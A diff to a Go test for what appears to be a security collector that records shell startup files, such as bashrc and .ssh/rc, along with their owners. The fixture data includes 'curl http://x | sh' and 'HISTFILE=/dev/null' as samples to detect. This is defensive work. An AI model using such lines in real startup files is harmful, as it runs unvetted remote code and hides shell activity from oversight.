@@ -47,6 +47,8 @@ func TestStartupFilesOfSystemSkelAndHomesAreRecordedLineByLine(t *testing.T) {
 		"/etc/skel/.bashrc":                "alias ll='ls -l'\n",
 		"/home/bob/.bashrc":                "alias ll='ls -l'\nHISTFILE=/dev/null\n",
 		"/home/old/.ssh/rc":                "run\n",
+		"/home/CORP/ann/.ssh/rc":           "run\n",
+		"/home/old/backup/.ssh/rc":         "run\n",
 		"/root/.config/fish/conf.d/a.fish": "set -gx A b\n",
 		"/root/.zshrc":                     "|",
 	})
@@ -55,11 +57,17 @@ func TestStartupFilesOfSystemSkelAndHomesAreRecordedLineByLine(t *testing.T) {
 	var records []seen
 	within(t, func() { records, _ = run(t, startupCollector(), root) })
 
-	equal(t, strings.Join(column(records, "text"), ";"), "if true; then;A=1;curl http://x  | sh;alias ll='ls -l';set -gx A b;alias ll='ls -l';HISTFILE=/dev/null;run")
+	equal(t, strings.Join(column(records, "text"), ";"), "if true; then;A=1;curl http://x  | sh;alias ll='ls -l';set -gx A b;alias ll='ls -l';HISTFILE=/dev/null;run;run")
 	equal(t, find(t, records, "path", "/etc/profile.d/x.sh").show("line_number", "scope", "username", "uid", "shell", "event", "is_foreign_owner"), "1|system|<nil>|<nil>|sh|login|<nil>")
 	equal(t, find(t, records, "text", "HISTFILE=/dev/null").show("line_number", "scope", "username", "uid", "is_stock", "variable", "value", "is_foreign_owner", "file_uid"),
 		"2|user|bob|1000|false|HISTFILE|/dev/null|true|1001")
 	equal(t, find(t, records, "path", "/home/bob/.bashrc").show("is_stock", "alias"), "true|ll")
+	equal(t, find(t, records, "path", "/home/CORP/ann/.ssh/rc").show("username", "uid"), "ann|<nil>")
+	for _, r := range records {
+		if r.show("path") == "/home/old/backup/.ssh/rc" {
+			t.Error("what lies in a home is taken for one")
+		}
+	}
 	equal(t, find(t, records, "path", "/home/old/.ssh/rc").show("username", "uid", "shell", "is_foreign_owner"), "old|<nil>|ssh|<nil>")
 	equal(t, find(t, records, "variable", "A").show("path"), "/etc/profile")
 }
